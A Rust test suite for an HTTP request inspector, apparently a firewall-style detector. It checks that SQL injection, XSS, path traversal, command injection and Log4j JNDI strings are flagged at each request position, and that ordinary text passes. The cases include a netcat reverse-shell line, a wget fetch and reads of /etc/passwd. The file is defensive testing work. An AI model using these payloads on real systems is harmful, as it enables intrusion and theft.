//! The detectors as a specification: which values are attacks of which class, at which position, and which values are not.

use agent_stub::exchange::CheckedRequest;
use agent_stub::inspect::inspect;
use percent_encoding::{NON_ALPHANUMERIC, percent_encode};
use rstest::rstest;

fn findings(request: &CheckedRequest) -> Vec<(&'static str, &'static str)> {
    let signals = inspect(request).expect("the inspection works");
    signals
        .iter()
        .map(|signal| (signal.kind.as_str(), signal.location.as_str()))
        .collect()
}

fn get(target: &str) -> CheckedRequest {
    CheckedRequest {
        method: "GET".into(),
        target: target.into(),
        ..CheckedRequest::default()
    }
}

fn with_header(name: &str, value: &str) -> CheckedRequest {
    CheckedRequest {
        headers: vec![(name.into(), value.into())],
        ..get("/")
    }
}

fn post(content_type: &str, body: &str) -> CheckedRequest {
    CheckedRequest {
        method: "POST".into(),
        body: body.into(),
        ..with_header("content-type", content_type)
    }
}

fn encoded(value: &str) -> String {
    percent_encode(value.as_bytes(), NON_ALPHANUMERIC).to_string()
}

/// The same value at every position that holds free text.
fn everywhere(value: &str) -> Vec<(&'static str, CheckedRequest)> {
    let json = serde_json::to_string(value).expect("a string");
    vec![
        ("PATH", get(&format!("/a/{}", encoded(value)))),
        ("QUERYSTRING", get(&format!("/a?q={}", encoded(value)))),
        ("QUERYSTRING", get(&format!("/a?{}=1", encoded(value)))),
        (
            "FORM",
            post(
                "application/x-www-form-urlencoded",
                &format!("a=1&b={}", encoded(value)),
            ),
        ),
        (
            "JSON",
            post(
                "application/json",
                &format!("{{\"a\":[1,{{\"b\":{json}}}]}}"),
            ),
        ),
        (
            "JSON",
            post("application/json", &format!("{{{json}:true}}")),
        ),
        ("POSTBODY", post("text/plain", value)),
        (
            "POSTBODY",
            post(
                "multipart/form-data; boundary=xyz",
                &format!(
                    "--xyz\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n{value}\r\n--xyz--\r\n"
                ),
            ),
        ),
        ("HEADER", with_header("x-comment", value)),
        (
            "HEADER",
            with_header("cookie", &format!("a=1; b={}", encoded(value))),
        ),
    ]
}

#[rstest]
#[case("SQLI", "1' OR '1'='1")]
#[case("SQLI", "1 OR 1=1")]
#[case("SQLI", "1 AND 1=1")]
#[case("SQLI", "' OR 1=1--")]
#[case("SQLI", "admin'--")]
#[case("SQLI", "1 UNION SELECT username, password FROM users--")]
#[case("SQLI", "-1 UNION ALL SELECT NULL,NULL,NULL")]
#[case("SQLI", "' UNION SELECT * FROM users#")]
#[case("SQLI", "1; DROP TABLE users")]
#[case("SQLI", "1' AND SLEEP(5)-- -")]
#[case("SQLI", "1'/**/OR/**/1=1#")]
#[case("SQLI", "\") OR (\"1\"=\"1")]
#[case("SQLI", "1 and (select count(*) from users)>0")]
#[case("SQLI", "'; EXEC xp_cmdshell('dir');--")]
#[case("XSS", "<script>alert(1)</script>")]
#[case("XSS", "<ScRiPt>alert(1)</ScRiPt>")]
#[case("XSS", "<img src=x onerror=alert(1)>")]
#[case("XSS", "<svg/onload=alert(1)>")]
#[case("XSS", "\"><script>alert(1)</script>")]
#[case("XSS", "<a href=\"javascript:alert(1)\">x</a>")]
#[case("XSS", "<body onload=alert(1)>")]
#[case("XSS", "<details open ontoggle=alert(1)>")]
#[case("XSS", "<iframe src=javascript:alert(1)>")]
#[case("XSS", "javascript:alert(document.cookie)")]
#[case("TRAVERSAL", "../../../etc/passwd")]
#[case("TRAVERSAL", "../config.php")]
#[case("TRAVERSAL", "..\\..\\windows\\win.ini")]
#[case("TRAVERSAL", "images/../../secret.txt")]
#[case("TRAVERSAL", "/etc/passwd")]
#[case("TRAVERSAL", "....//....//etc/passwd")]
#[case("TRAVERSAL", "%2e%2e%2f%2e%2e%2fetc%2fpasswd")]
#[case("TRAVERSAL", "file:///etc/passwd")]
#[case("CMDEXE", "127.0.0.1;id")]
#[case("CMDEXE", ";cat /etc/hostname")]
#[case("CMDEXE", "x; cat /etc/passwd")]
#[case("CMDEXE", "$(id)")]
#[case("CMDEXE", "a$(cat /etc/hostname)b")]
#[case("CMDEXE", "`id`")]
#[case("CMDEXE", "x`whoami`")]
#[case("CMDEXE", "x | nc 10.0.0.1 4444 -e /bin/sh")]
#[case("CMDEXE", "x && wget http://example.com/x.sh")]
#[case("CMDEXE", "x & ping -c 10 127.0.0.1")]
#[case("CMDEXE", ";cat${IFS}/etc/hostname")]
#[case("CMDEXE", "x||/bin/ls -la")]
#[case("CMDEXE", "1;sleep 5")]
#[case("CMDEXE", "test;id")]
#[case("CMDEXE", "test|id")]
#[case("CMDEXE", ";cat<etc/passwd")]
#[case("CMDEXE", "x\nwhoami")]
#[case("CMDEXE", "() { :;}; echo x")]
#[case("LOG4J-JNDI", "${jndi:ldap://example.com/a}")]
#[case("LOG4J-JNDI", "${${lower:j}ndi:rmi://example.com/a}")]
#[case("LOG4J-JNDI", "${${::-j}${::-n}${::-d}${::-i}:ldap://example.com/a}")]
#[case("LOG4J-JNDI", "${JnDi:dns://example.com}")]
fn an_attack_is_found_at_every_position(#[case] kind: &str, #[case] value: &str) {
    for (location, request) in everywhere(value) {
        let is_split_cookie = request.header("cookie").is_some();
        let found = findings(&request);
        assert!(
            found
                .iter()
                .any(|(found_kind, found_location)| *found_kind == kind
                    && *found_location == location),
            "{kind} {value:?} at {location} (cookie: {is_split_cookie}) in {request:?}: {found:?}"
        );
    }
}

#[rstest]
#[case::name("O'Brien")]
#[case::name_list("Seán O'Casey, Conan O'Brien & Sinéad O'Connor")]
#[case::english_select("Select a seat from the list")]
#[case::english_drop("Drop the table off at my house")]
#[case::english_union("union of workers; select committee")]
#[case::english_insert("Please insert coin and update the order")]
#[case::english_where("The WHERE clause in SQL selects rows")]
#[case::english_case("case when I was young")]
#[case::english_limit("Having fun; limit 5")]
#[case::comparison("1 < 2 and 3 > 2")]
#[case::either("I'll order 1 or 2")]
#[case::numbers("1 or 2 items")]
#[case::function("sleep(5) is a function")]
#[case::windows_path(r"C:\Program Files\App\app.exe")]
#[case::unix_path("/usr/share/doc/readme.txt")]
#[case::semicolons("rock & roll; cats and dogs")]
#[case::the_cat("I like the dog; the cat; more food")]
#[case::price("price > $(5)")]
#[case::jquery("$(document).ready")]
#[case::markdown("# Heading\n\n*bold* [link](http://example.com/b?c=d) and `code`")]
#[case::markdown_command("Run `ls` first, then `cat` the file")]
#[case::markdown_table("| id | name |\n| -- | ---- |\n| 1 | env |")]
#[case::snippet("Use `let x = 1;` to declare; then call foo(x).")]
#[case::snippet_c("In C, if (a < b && c > d) { return; }")]
#[case::jwt(
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)]
#[case::base64("aGVsbG8gd29ybGQ+Pz8/Cg==")]
#[case::guid("123e4567-e89b-12d3-a456-426614174000")]
#[case::url("https://example.com/?next=/a/b&x=1")]
#[case::local_url("/a/b")]
#[case::email("jane.doe+tag@example.com")]
#[case::dashes("good -- but expensive")]
#[case::terms("Terms & conditions -- see below")]
#[case::quoted("He said \"yes\" or \"no\"")]
#[case::apostrophes("It's 5 o'clock, don't be late; won't you?")]
#[case::rock("rock 'n' roll")]
#[case::twas("'twas the night")]
#[case::feet("5' 10\"")]
#[case::heart("I <3 you")]
#[case::less("2 < 3")]
#[case::percent("100% sure, 50% off")]
#[case::phone("+44 (0)20 7946 0018")]
#[case::timestamp("2026-11-24T05:38:00Z")]
#[case::range("10-20")]
#[case::exponent("1.5e10")]
#[case::hashtag("#1 fan of #rust")]
#[case::comment("/* comment */ // TODO: fix")]
#[case::option("--help")]
#[case::cpp("C++ && Java")]
#[case::pipes("tom & jerry | mickey")]
#[case::columns("name;id;host")]
#[case::column_pipe("user|id|city")]
#[case::style("style=modern")]
#[case::title("javascript: the good parts")]
#[case::bold("<b>bold</b> and <p>a paragraph</p>")]
#[case::template("Hello ${name}, welcome to {{place}}")]
#[case::environment("$HOME/bin and ${PATH}")]
#[case::ellipsis("wait.../maybe")]
#[case::dots("see ../README.md for the rest")]
#[case::version("v1.2.3...v1.2.4")]
#[case::hospital("L'Hôpital's rule")]
#[case::emoji("😀 & 👍; great")]
#[case::accept("text/html;q=0.9,*/*;q=0.8")]
#[case::csv("a;b;c\n1;2;3")]
#[case::macro_call("println!(\"Bytes processed: {}\", n);")]
#[case::quoted_character("since any '|' is considered part of the command")]
#[case::formula("max(price)")]
#[case::dash_range("10--20")]
#[case::address("Read more at https://example.com; more at http://example.com/x")]
#[case::column_list("name; id; city")]
#[case::question("What's 1=1?")]
#[case::sort("sort=-created_at")]
#[case::entities("&lt;script&gt; is how you write it")]
#[case::list("- item; echo of the past\n- more than words")]
#[case::python("Python and Perl; Ruby & PHP")]
#[case::find("Call me; find out more & type 2 letters")]
#[case::mail(
    "Dear John,\n\nMore news: head to the office.\nKill time & ping me; sleep 8 hours.\n\nBest,\nCat"
)]
fn an_ordinary_value_passes_at_every_position(#[case] value: &str) {
    for (location, request) in everywhere(value) {
        let found = inspect(&request).expect("the inspection works");
        assert!(found.is_empty(), "{value:?} at {location}: {found:?}");
    }
}

#[rstest]
#[case(
    "/anything/x?because_of_the_args=../../../etc/passwd",
    "TRAVERSAL",
    "QUERYSTRING"
)]
#[case("/static/..%2f..%2fetc/passwd", "TRAVERSAL", "PATH")]
#[case("/%2e%2e/%2e%2e/etc/passwd", "TRAVERSAL", "PATH")]
#[case("/item/1'/**/OR/**/1=1%23", "SQLI", "PATH")]
#[case("/a?x=%2527%2520OR%25201%253D1--", "SQLI", "QUERYSTRING")]
#[case("/a?x=1+UNION+SELECT+a,b+FROM+c--", "SQLI", "QUERYSTRING")]
fn an_encoded_target_is_decoded_before_it_is_judged(
    #[case] target: &str,
    #[case] kind: &str,
    #[case] location: &str,
) {
    let found = findings(&get(target));
    assert!(found.contains(&(kind, location)), "{found:?}");
}

#[rstest]
#[case("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8")]
#[case(
    "user-agent",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36"
)]
#[case("sec-ch-ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\"")]
#[case("content-disposition", "form-data; name=\"a'b\"; id")]
#[case(
    "cookie",
    "a=1; theme='dark'; id=3; ls=4; _ga=GA1.2.1; consent={\"a\":true}"
)]
#[case("referer", "https://example.com/search?q=a&next=/b/c;id=2")]
#[case("authorization", "Digest username=\"x' or 1=1\", uri=\"/\"")]
#[case("x-conformance-id", "decisions:blocks-sqli.' OR 1=1--.1.abc")]
#[case("x-request-id", "1' OR '1'='1")]
#[case("x-forwarded-for", "192.0.2.1, 10.0.0.1; id")]
#[case("if-none-match", "W/\"a'b-- \"")]
fn a_structured_header_is_not_read_as_free_text(#[case] name: &str, #[case] value: &str) {
    assert_eq!(findings(&with_header(name, value)), []);
}

#[rstest]
#[case("user-agent", "${jndi:ldap://example.com/a}", "LOG4J-JNDI")]
#[case("x-request-id", "${jndi:ldap://example.com/a}", "LOG4J-JNDI")]
#[case("x-forwarded-for", "${jndi:ldap://example.com/a}", "LOG4J-JNDI")]
#[case("authorization", "${${lower:j}ndi:ldap://example.com/a}", "LOG4J-JNDI")]
#[case("user-agent", "sqlmap/1.8#stable (https://sqlmap.org)", "USERAGENT")]
#[case("referer", "https://example.com/?q=<script>alert(1)</script>", "XSS")]
fn a_structured_header_is_still_looked_through(
    #[case] name: &str,
    #[case] value: &str,
    #[case] kind: &str,
) {
    assert_eq!(findings(&with_header(name, value)), [(kind, "HEADER")]);
}

#[test]
fn a_json_body_that_is_cut_short_is_inspected_up_to_the_cut() {
    let cut = post(
        "application/json",
        "{\"padding\":\"O'Brien\",\"q\":\"1' OR '1'='1",
    );
    assert_eq!(findings(&cut), [("SQLI", "JSON")]);
    let harmless = post(
        "application/json",
        "{\"author\":\"O'Brien\",\"text\":\"rock 'n' ro",
    );
    assert_eq!(findings(&harmless), []);
}

#[test]
fn a_json_escape_hides_nothing() {
    let body = r#"{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#;
    assert_eq!(findings(&post("application/json", body)), [("XSS", "JSON")]);
}

#[test]
fn a_deeply_nested_body_is_walked_without_recursion() {
    let body = format!("{}\"1' OR '1'='1\"", "[".repeat(200_000));
    assert_eq!(
        findings(&post("application/json", &body)),
        [("SQLI", "JSON")]
    );
}

#[test]
fn a_binary_body_is_left_alone() {
    let mut request = post("application/octet-stream", "");
    request.body = b"\x00\x01' OR 1=1--".to_vec();
    assert_eq!(findings(&request), []);
}

#[rstest]
#[case::semicolons(";")]
#[case::braces("${")]
#[case::closing_braces("${a}}")]
#[case::quotes("'")]
#[case::backquotes("`")]
#[case::angles("<")]
#[case::slashes("../")]
#[case::percents("%25")]
#[case::ampersands("a=1&")]
#[case::substitutions("$(")]
#[case::strings("\"a\":")]
#[case::escapes("\"\\u0041")]
#[case::sql("1' or ")]
#[case::comments("/*")]
#[case::brackets("((")]
#[case::newlines("\n")]
fn a_long_run_of_one_token_is_inspected_in_linear_time(#[case] token: &str) {
    for content_type in [
        "text/plain",
        "application/json",
        "application/x-www-form-urlencoded",
    ] {
        let body = token.repeat(200_000 / token.len());
        let started = std::time::Instant::now();
        let outcome = inspect(&post(content_type, &body));
        assert!(outcome.is_ok(), "{token:?} as {content_type}");
        // Generous for an unoptimised build on a busy machine; a quadratic detector needs minutes.
        assert!(
            started.elapsed().as_secs() < 20,
            "{token:?} as {content_type}: {:?}",
            started.elapsed()
        );
    }
}
